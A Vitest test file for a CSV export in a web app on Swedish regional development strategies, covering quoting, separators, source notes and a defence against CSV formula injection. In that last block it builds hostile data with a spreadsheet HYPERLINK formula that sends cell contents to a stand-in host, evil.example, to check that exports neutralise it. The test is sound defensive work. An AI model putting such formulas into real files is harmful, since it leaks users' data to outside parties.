import { EVIDENCE_STRINGS } from "../../src/i18n/evidence";
import { describe, expect, it } from "vitest";
import { BOM, defaultSeparator, escapeField, matrixRows, sourceNote, toCsv, viewRows, type Separator } from "../../src/export/csv";
import { readCsv } from "../csvRead";
import { classify, type ColorChoice } from "../../src/domain/classify";
import type { Dataset } from "../../src/data/schema";
import type { Lang } from "../../src/i18n/strings";
import { realDataset } from "./fixtures";
import { evidenceLabel } from "../../src/domain/evidence";

const data = realDataset();

describe("CSV", () => {
  it("quotes fields with the separator, quotes or line breaks (RFC 4180)", () => {
    expect(escapeField("Västra Götaland", ",")).toBe("Västra Götaland");
    expect(escapeField("a,b", ",")).toBe('"a,b"');
    expect(escapeField("a,b", ";")).toBe("a,b");
    expect(escapeField("a;b", ";")).toBe('"a;b"');
    expect(escapeField('säger "ja"', ",")).toBe('"säger ""ja"""');
    expect(escapeField("rad 1\nrad 2", ";")).toBe('"rad 1\nrad 2"');
    expect(escapeField("x\r\ny", ",")).toBe('"x\r\ny"');
  });

  it("starts with a BOM and ends lines with CRLF", () => {
    const csv = toCsv(
      [
        ["a", "b"],
        [1, 2],
      ],
      ",",
    );
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv.slice(1)).toBe("a,b\r\n1,2\r\n");
  });

  it.each([",", ";"] as const)("round-trips quotes, separators, line breaks and å/ä/ö with %j", (sep) => {
    const rows = [
      ["kod", "namn", "citat"],
      ["SE-O", "Västra Götaland", 'Regionen "kraftsamlar"; se, t.ex.\nrad två'],
      ["SE-Z", "Jämtland Härjedalen", "åäö ÅÄÖ é"],
      ["", "", ""],
    ];
    const note = "Källa: Tillväxtverket (2026), dnr Å 2025-51; uttag 2026-11-27";
    const parsed = readCsv(toCsv(rows, sep, note), sep);
    expect(parsed.slice(0, rows.length)).toEqual(rows);
    expect(parsed.at(-1)).toEqual([note]);
  });

  it("names the source, the report's short caveat, that its lists are examples, and the date, in the reader's language", () => {
    expect(sourceNote(data, "sv", "uttag 2026-11-27")).toBe(
      `Källa: Tillväxtverket (2026), Sammanställning av arbetet med regionala utvecklingsstrategier. Uppdrag 3.4 för RB år 2025, dnr Å 2025-51. ${data.caveats.short.sv} ${EVIDENCE_STRINGS.sv.examplesNotComplete} uttag 2026-11-27`,
    );
    expect(sourceNote(data, "en", "extracted 2026-11-27")).toMatch(
      /^Source: Tillväxtverket \(2026\), .*, ref\. Å 2025-51\. .*AI.* not complete.* extracted 2026-11-27$/u,
    );
  });

  it("defaults to ; in Swedish (Swedish Excel) and , in English", () => {
    expect(defaultSeparator("sv")).toBe(";");
    expect(defaultSeparator("en")).toBe(",");
  });

  it.each(["sv", "en"] as const)("writes the regions × lists and examples matrix with readable %s headers", (lang) => {
    const practices = data.practices.filter((p) => p.evidence !== "all");
    const rows = readCsv(toCsv(matrixRows(data, lang), defaultSeparator(lang)), defaultSeparator(lang));
    expect(rows).toHaveLength(22);
    const [header, ...regionRows] = rows;
    const facts =
      lang === "sv"
        ? ["Kod", "Region", "Strategins status", "Antagen år", "Strategins titel"]
        : ["Code", "Region", "Strategy status", "Year adopted", "Strategy title"];
    // Named by the practice's name, never its id, and no statement of all regions among them.
    expect(header).toEqual([...facts, ...practices.map((p) => p[lang])]);
    expect(header!.some((h) => /^[a-z0-9]+(-[a-z0-9]+)+$/.test(h))).toBe(false);
    for (const p of data.practices.filter((p) => p.evidence === "all")) expect(header).not.toContain(p[lang]);

    // Each region's status (in the legend's words), year of adoption and strategy title.
    for (const region of data.regions) {
      const row = regionRows.find((r) => r[0] === region.code)!;
      const status = data.statuses.find((s) => s.id === region.strategy.status)![lang];
      expect(row.slice(0, 5)).toEqual([region.code, region.name, status, String(region.strategy.adopted), region.strategy.title]);
    }
  });

  it("says in each cell what the mention rests on, and leaves the cell empty where the region is not named", () => {
    const rows = readCsv(toCsv(matrixRows(data, "sv"), ";"), ";");
    const column = (id: string) => rows[0]!.indexOf(data.practices.find((p) => p.id === id)!.sv);
    const cellsOf = (id: string) => rows.slice(1).map((r) => [r[0], r[column(id)]]);

    const listed = data.practices.find((p) => p.id === "open-indicator-platforms")!;
    expect(listed.regions).toHaveLength(7);
    expect(cellsOf(listed.id).filter(([, cell]) => cell !== "")).toEqual(
      data.regions.filter((r) => listed.regions.includes(r.code)).map((r) => [r.code, "Rapportens förteckning, fotnot 21"]),
    );
    const example = data.practices.find((p) => p.id === "social-sustainability-blekinge")!;
    expect(cellsOf(example.id).filter(([, cell]) => cell !== "")).toEqual(example.regions.map((code) => [code, "Nämns som exempel"]));
    // The regions 2.2.1 names "exempelvis" in one sentence are examples in the CSV too, never the report's list.
    const s3 = data.practices.find((p) => p.id === "s3-own-strategy")!;
    expect(s3.source.quote).toContain("exempelvis");
    expect(cellsOf(s3.id).filter(([, cell]) => cell !== "")).toEqual(
      data.regions.filter((r) => s3.regions.includes(r.code)).map((r) => [r.code, "Nämns som ett av flera exempel, avsnitt 2.2.1"]),
    );
    // Every cell is one of the kinds or empty: nothing counts as a region doing what the report says of all.
    const kinds = new Set(rows.slice(1).flatMap((r) => r.slice(5)));
    expect([...kinds].sort()).toEqual(
      [
        "",
        "Nämns som exempel",
        "Nämns som ett av flera exempel, avsnitt 2.2.1",
        ...new Set(data.practices.filter((p) => p.evidence === "listed").map((p) => evidenceLabel(p, "sv"))),
      ].sort(),
    );
  });

  it("writes the current view with each region's class", () => {
    const c = classify(data, { color: "status" }, "sv");
    const rows = viewRows(data, c, { code: "Kod", region: "Region", value: "Värde" });
    expect(rows).toHaveLength(22);
    const uppsala = rows.find((r) => r[0] === "SE-C")!;
    expect(uppsala[2]).toBe("Ny strategi antagen 2026");
  });
});

/** What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection"). */
const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];
const DANGEROUS_CELL = /^[=+\-@\t\r]/;
/** A formula that would call out with the sheet's data if it ran; quotes, commas and semicolons test the quoting too. */
const payload = (start: string, i: number) => `${start}HYPERLINK("https://evil.example/?"&A1;"klicka ${i}, här")`;

/** The committed dataset with every name, label and title a CSV can carry starting like a formula. */
function hostileDataset(): Dataset {
  const data = structuredClone(realDataset());
  const start = (i: number) => FORMULA_STARTS[i % FORMULA_STARTS.length]!;
  data.regions.forEach((r, i) => (r.name = payload(start(i), i)));
  data.statuses.forEach((s, i) => Object.assign(s, { sv: payload(start(i), i), en: payload(start(i + 1), i) }));
  data.practices.forEach((p, i) => Object.assign(p, { sv: payload(start(i), i), en: payload(start(i + 1), i) }));
  data.questions.forEach((q, i) => Object.assign(q, { sv: payload(start(i), i), en: payload(start(i + 1), i) }));
  data.edition.title = payload("=", 0);
  return data;
}

/** Every CSV the export menu can write (ExportTools): the matrix, and the current view in every colour mode. */
function everyCsv(data: Dataset, lang: Lang, separator: Separator): { name: string; text: string }[] {
  const note = sourceNote(data, lang, "uttag 2026-11-27");
  const listed = data.practices.filter((p) => p.evidence === "listed").map((p) => p.id);
  const choices: ColorChoice[] = [
    { color: "status" },
    { color: "year" },
    { color: "horizon" },
    ...data.practices.map((p) => ({ color: "practice" as const, practice: p.id })),
    { color: "practice", practice: listed[0], practice2: listed[1] },
    ...data.questions.map((q) => ({ color: "question" as const, q: q.id })),
  ];
  const columns = { code: "Kod", region: "Region", value: "Värde" };
  return [
    { name: "matrix", text: toCsv(matrixRows(data, lang), separator, note) },
    ...choices.map((choice) => ({
      name: `view ${JSON.stringify(choice)}`,
      text: toCsv(viewRows(data, classify(data, choice, lang), columns), separator, note),
    })),
  ];
}

describe("CSV formula injection", () => {
  it("writes text that starts like a formula with a leading ' and quoted, and numbers as numbers", () => {
    for (const start of FORMULA_STARTS) expect(escapeField(`${start}1+1`, ",")).toBe(`"'${start}1+1"`);
    expect(escapeField('=HYPERLINK("x";"y")', ";")).toBe(`"'=HYPERLINK(""x"";""y"")"`);
    // A negative number is data: it stays a number a spreadsheet can sum.
    expect(escapeField(-3, ",")).toBe("-3");
    expect(escapeField(0, ";")).toBe("0");
    // Region codes, and text with the characters later on, are left alone.
    expect(escapeField("SE-AB", ",")).toBe("SE-AB");
    expect(escapeField("Kod = 1", ",")).toBe("Kod = 1");
  });

  const data = hostileDataset();
  for (const lang of ["sv", "en"] as const) {
    for (const separator of [",", ";"] as const) {
      it(`no cell of any download starts like a formula (${lang}, ${JSON.stringify(separator)})`, () => {
        const files = everyCsv(data, lang, separator);
        expect(files.length).toBe(5 + data.practices.length + data.questions.length);
        for (const file of files) {
          const cells = readCsv(file.text, separator).flat();
          expect(
            cells.filter((cell) => DANGEROUS_CELL.test(cell)),
            file.name,
          ).toEqual([]);
        }
      });
    }
  }

  it("keeps the hostile names, readable, behind the leading '", () => {
    const [matrix, status] = everyCsv(data, "sv", ";");
    const regions = readCsv(matrix!.text, ";").slice(1, 1 + data.regions.length);
    expect(regions.map((row) => row[1])).toEqual(data.regions.map((r) => `'${r.name}`));
    const statusRows = readCsv(status!.text, ";");
    const uppsala = data.regions.find((r) => r.code === "SE-C")!;
    const label = data.statuses.find((s) => s.id === uppsala.strategy.status)!.sv;
    expect(statusRows.find((row) => row[0] === "SE-C")).toEqual(["SE-C", `'${uppsala.name}`, `'${label}`]);
    expect(statusRows.at(-1)![0]).toContain(`${payload("=", 0)}, dnr`);
  });
});
